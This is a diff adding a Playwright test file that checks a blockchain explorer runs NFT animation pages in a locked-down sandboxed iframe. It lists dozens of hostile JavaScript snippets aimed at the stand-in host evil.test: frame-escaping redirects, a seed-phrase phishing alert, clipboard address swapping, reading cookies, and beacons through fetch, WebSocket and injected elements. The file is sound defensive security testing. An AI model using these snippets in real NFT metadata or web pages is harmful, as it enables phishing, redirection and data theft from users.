@@ -1,0 +1,142 @@
+import type { Page } from '@playwright/test'
+import { type FaultServer, json } from './fixtures/faults'
+import { expect, test } from './fixtures/test'
+import { at, chain } from './pages'
+
+// What an NFT's author wrote as a page: run on request, in a frame that reaches nothing.
+
+test.use({ tolerates: 'refused attacks' })
+
+const path = `/${chain}/token/${at.charts}/instance/7`
+const overview = (page: Page) => page.getByRole('region', { name: 'Overview of the NFT' })
+
+function publish(faults: FaultServer, animation_url: string): void {
+  faults.on(new RegExp(`/tokens/${at.charts}/instances/7$`, 'i'), async ({ real }) =>
+    json({ ...(JSON.parse(await real()) as object), image_url: null, metadata: { name: 'Seven' }, animation_url }),
+  )
+}
+
+/** Ways out of the frame, into the explorer and to its reader. */
+const escapes = [
+  'top.location = "https://evil.test/top"',
+  'parent.location = "https://evil.test/parent"',
+  'parent.parent.document.title = "taken"',
+  'parent.parent.postMessage({ state: "shown" }, "*")',
+  'alert("give me your phrase")',
+  'open("https://evil.test/window")',
+  'localStorage.setItem("a", "b")',
+  'document.cookie',
+  'indexedDB.open("a")',
+  'navigator.serviceWorker.getRegistrations()',
+  'navigator.clipboard.writeText("0xevil")',
+  'document.documentElement.requestFullscreen()',
+  'document.body.append(Object.assign(document.createElement("form"), {action: "https://evil.test/form", target: "_top"})); document.forms[0].submit()',
+  'Object.assign(document.createElement("a"), {href: "https://evil.test/a", target: "_top"}).click()',
+  'Object.assign(document.createElement("a"), {href: "data:,x", download: "x.exe"}).click()',
+]
+
+/** Ways to tell somebody something. */
+const calls = [
+  'fetch("https://evil.test/fetch")',
+  'navigator.sendBeacon("https://evil.test/beacon", "x")',
+  'new XMLHttpRequest().open("GET", "https://evil.test/xhr", false)',
+  'new WebSocket("wss://evil.test/socket")',
+  'new EventSource("https://evil.test/events")',
+  'new Worker("https://evil.test/worker.js")',
+  'import("https://evil.test/module.js")',
+  'new Image().src = "https://evil.test/image"',
+  'new Audio("https://evil.test/audio").play()',
+  'new FontFace("a", "url(https://evil.test/font)").load()',
+  ...['script', 'iframe', 'embed', 'video', 'img'].map(
+    (name) =>
+      `document.body.append(Object.assign(document.createElement("${name}"), {src: "https://evil.test/${name}"}))`,
+  ),
+  ...['stylesheet', 'prefetch', 'preload', 'icon', 'manifest', 'modulepreload'].map(
+    (rel) =>
+      `document.head.append(Object.assign(document.createElement("link"), {rel: "${rel}", as: "image", href: "https://evil.test/${rel}"}))`,
+  ),
+  'document.body.style.background = "url(https://evil.test/style)"',
+  'document.head.append(Object.assign(document.createElement("base"), {href: "https://evil.test/"}))',
+]
+
+/** Ways to lead the frame itself elsewhere. */
+const departures = [
+  'Object.assign(document.createElement("a"), {href: "https://evil.test/a", ping: "https://evil.test/ping"}).click()',
+  'location = "https://evil.test/location"',
+  'document.head.append(Object.assign(document.createElement("meta"), {httpEquiv: "refresh", content: "0;url=https://evil.test/refresh"}))',
+]
+
+/** A page that tries them, and then says what became of them. */
+const program = (attempts: readonly string[]) => `<body><p id="out"></p><script>
+  const outcome = ['origin ' + origin, 'referrer ' + JSON.stringify(document.referrer)]
+  ${attempts.map((attempt) => `try { ${attempt}; outcome.push('ran') } catch { outcome.push('refused') }`).join('\n')}
+  out.textContent = outcome.join(', ')
+</script>`
+
+/** Everything that must not happen, noted as it happens; what hosts are asked is noted apart. */
+async function watch(page: Page, html: string) {
+  const happened: string[] = []
+  const asked: string[] = []
+  page.on('dialog', (dialog) => {
+    happened.push(`a dialog: ${dialog.message()}`)
+    void dialog.dismiss()
+  })
+  page.on('download', (download) => happened.push(`a download: ${download.url()}`))
+  page.on('websocket', (socket) => happened.push(`a socket: ${socket.url()}`))
+  page.context().on('page', (opened) => happened.push(`a window: ${opened.url()}`))
+  await page.context().route(/\.test\//, async (route) => {
+    const request = route.request()
+    asked.push(`${request.method()} ${request.url()} ${request.headers()['referer'] ?? ''}`.trim())
+    await route.fulfill({ contentType: 'text/html', body: request.url().includes('evil') ? '' : html })
+  })
+  return { happened, asked }
+}
+
+async function expectUntouched(page: Page, site: string): Promise<void> {
+  await expect(page).toHaveTitle('Seven · Meridian · Astrolabe')
+  await expect(page).toHaveURL(site + path)
+  await expect(overview(page).getByRole('button', { name: 'Back to the picture' })).toBeVisible()
+}
+
+test('one that somebody hosts reaches neither the explorer nor its reader', async ({ page, faults }) => {
+  const { happened, asked } = await watch(page, program(escapes))
+  publish(faults, 'https://a.test/art')
+  await page.goto(faults.site + path)
+  await expect(overview(page).getByText('runs apart from the explorer')).toBeVisible()
+  expect(asked).toEqual([])
+  await overview(page).getByRole('button', { name: 'Run its page' }).click()
+  const frame = page.locator('iframe')
+  await expect(frame.contentFrame().locator('#out')).toContainText('origin null, referrer "", refused')
+  await expect(frame).toHaveAttribute('sandbox', 'allow-scripts')
+  // How large it is, and then it.
+  expect(asked).toEqual(['HEAD https://a.test/art', 'GET https://a.test/art'])
+  expect(happened).toEqual([])
+  await expectUntouched(page, faults.site)
+})
+
+for (const [form, encode] of [
+  ['as it is', (html: string) => `data:text/html,${encodeURIComponent(html)}`],
+  ['in base64', (html: string) => ` data:TEXT/HTML;charset=utf-8;base64,${Buffer.from(html).toString('base64')}`],
+] as const)
+  test(`one that is written into the metadata ${form} asks nobody for anything, either`, async ({ page, faults }) => {
+    const { happened, asked } = await watch(page, '')
+    publish(faults, encode(program([...escapes, ...calls])))
+    await page.goto(faults.site + path)
+    await expect(overview(page).getByText('It is part of the metadata.')).toBeVisible()
+    await page.waitForLoadState('networkidle')
+    expect(page.frames()).toHaveLength(1)
+    await overview(page).getByRole('button', { name: 'Run its page' }).click()
+    const inner = page.locator('iframe').contentFrame().locator('iframe')
+    await expect(inner.contentFrame().locator('#out')).toContainText('origin null, referrer "", refused')
+    for (const frame of [page.locator('iframe'), inner]) await expect(frame).toHaveAttribute('sandbox', 'allow-scripts')
+    await page.waitForLoadState('networkidle')
+    for (const departure of departures) {
+      publish(faults, encode(`<body><script>${departure}</script>`))
+      await page.goto(faults.site + path)
+      await overview(page).getByRole('button', { name: 'Run its page' }).click()
+      await expect.poll(() => page.frames().map((frame) => frame.url())).toContain('chrome-error://chromewebdata/')
+    }
+    expect(asked).toEqual([])
+    expect(happened).toEqual([])
+    await expectUntouched(page, faults.site)
+  })
